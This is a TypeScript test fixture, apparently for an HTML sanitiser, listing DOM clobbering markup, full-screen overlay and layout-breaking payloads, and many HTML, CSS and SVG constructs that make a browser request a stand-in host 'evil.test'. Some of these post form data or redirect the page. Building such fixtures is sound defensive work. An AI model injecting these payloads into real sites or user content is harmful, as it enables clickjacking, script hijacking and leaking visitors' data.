export const EVIL = 'https://evil.test/'
/** Fails at once, without a request. */
export const BROKEN = 'data:,'
const COVER = 'position:fixed;inset:0;z-index:2147483647;background:red'

export const each = <A, B>(one: readonly A[], other: readonly B[], write: (a: A, b: B) => string) =>
  one.flatMap((a) => other.map((b) => write(a, b)))

/** Names that hide properties of the document, which the site and its sanitiser read. */
export const clobbering = each(
  ['img', 'form', 'a', 'iframe', 'object', 'embed'],
  [
    'root',
    'page-content',
    'boot',
    'body',
    'getElementById',
    'implementation',
    'currentScript',
    'attributes',
    '__proto__',
  ],
  (element, name) => `<${element} id="${name}" name="${name}" src="${BROKEN}"><input name="${name}">x`,
)

export const overlays = [
  `<div style="${COVER}">x</div>`,
  `<p style='${COVER}'>x</p>`,
  `<a href="/contact" style=${COVER}>x</a>`,
  `<style>*{${COVER}}</style>x`,
  `<svg><style>*{${COVER}}</style></svg>`,
  `<link rel=stylesheet href="data:text/css,*{${COVER}}">`,
  `<dialog open style="${COVER}">x</dialog>`,
  `<div popover id=p style="${COVER}">x</div><button popovertarget=p autofocus>x</button>`,
  '<p class="sc-a sc-b header fixed modal" id="root" role="dialog" aria-modal="true">x</p>',
  '<a href="/contact" role="button" tabindex="1" accesskey="a" autofocus>x</a>',
  '<p aria-hidden=true hidden inert data-draft=x>x</p>',
  `<img src="${BROKEN}" width="99999999" height="99999999" border=9999 hspace=9999 vspace=9999 align=left>`,
  `<img src="${BROKEN}" width="10000" height="10000">`.repeat(3),
  `<table width=99999 height=99999 cellpadding=9999 bgcolor=red><tr><td colspan=1000 rowspan=65534 height=99999>x`,
  '<font size=7><marquee width=9999 height=9999 scrollamount=999>x</marquee></font>',
  '<ol start=999999999999><li value=999999999>x</li></ol><hr size=99999 width=99999>',
  `<layer z-index=99 width=9999>x</layer><blink>x</blink><center><spacer type=block width=9999 height=9999>`,
  `<sup>${'<sup>'.repeat(50)}x`,
  'e\u0301\u0302\u0303'.repeat(60),
  '\u202e\u2066\u200f'.repeat(20) + 'x',
  'W'.repeat(3_000),
  '</svg><svg transform="translate(-500 -500) scale(5000)" viewBox="0 0 1 1"><path d="M0 0h1v1H0z"/></svg><svg>',
  '</svg><svg width="9999" height="9999" style="position:fixed;inset:0"><rect width="9999" height="9999"/></svg>',
  '<svg overflow="visible" width="9999" height="9999" x="-5000"><rect width="9999" height="9999"/></svg>',
]

export const requests = [
  `<img src="${BROKEN}" srcset="${EVIL} 1x, ${EVIL} 2000w">`,
  `<img src="${BROKEN}" longdesc="${EVIL}" lowsrc="${EVIL}" dynsrc="${EVIL}" usemap="${EVIL}">`,
  `<picture><source srcset="${EVIL}"><img src="${BROKEN}"></picture>`,
  `<video poster="${EVIL}" src="${EVIL}" autoplay><track default src="${EVIL}"></video>`,
  `<audio autoplay><source src="${EVIL}"></audio>`,
  `<input type=image src="${EVIL}">`,
  ...['table', 'td', 'th', 'body', 'tr'].map((name) => `<table><tr><${name} background="${EVIL}">x</table>`),
  ...[
    'stylesheet',
    'preload',
    'prefetch',
    'modulepreload',
    'preconnect',
    'dns-prefetch',
    'icon',
    'manifest',
  ].map((rel) => `<link rel="${rel}" as=image href="${EVIL}">`),
  ...['iframe', 'embed', 'frame', 'portal', 'fencedframe', 'script', 'bgsound'].map(
    (name) => `<${name} src="${EVIL}"></${name}>`,
  ),
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<object data="${EVIL}"><param name=movie value="${EVIL}"></object><applet code="${EVIL}" archive="${EVIL}">`,
  `<meta http-equiv=refresh content="0;${EVIL}"><meta http-equiv=Link content="<${EVIL}>; rel=preload">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'none'; report-uri ${EVIL}">`,
  `<base href="${EVIL}"><img src=x><a href=x>x</a>`,
  `<form action="${EVIL}" method=post><input name=mobile autofocus><button>Envoyer</button></form>`,
  `<form id=f action="${EVIL}"></form><button form=f>x</button><input form=f type=submit>`,
  `<a href="#" ping="${EVIL}" attributionsrc="${EVIL}" download>x</a>`,
  `<p style="background:url(${EVIL})">x</p>`,
  `<p style=list-style-image:url(${EVIL});display:list-item>x</p>`,
  `<style>@import "${EVIL}";@font-face{font-family:x;src:url(${EVIL})}body{font-family:x}</style>`,
  `<svg><image href="${EVIL}" xlink:href="${EVIL}" width=9 height=9 /></svg>`,
  `<svg><use href="${EVIL}#a"/><feImage href="${EVIL}"/><script href="${EVIL}"/></svg>`,
  `<svg><path d="M0 0h9v9z" fill="url(${EVIL}#a)" stroke='URL("${EVIL}")' filter="url(${EVIL})"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:ran()"/><set attributeName=onload to=ran()></a></svg>`,
  `<html manifest="${EVIL}"><head profile="${EVIL}">`,
  `<blockquote cite="${EVIL}"><q cite="${EVIL}">x</q><del cite="${EVIL}">x</del></blockquote>`,
  `<link rel=import href="${EVIL}"><?xml-stylesheet href="${EVIL}"?>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<script type=importmap>{"imports":{"/":"${EVIL}"}}</script>`,
]
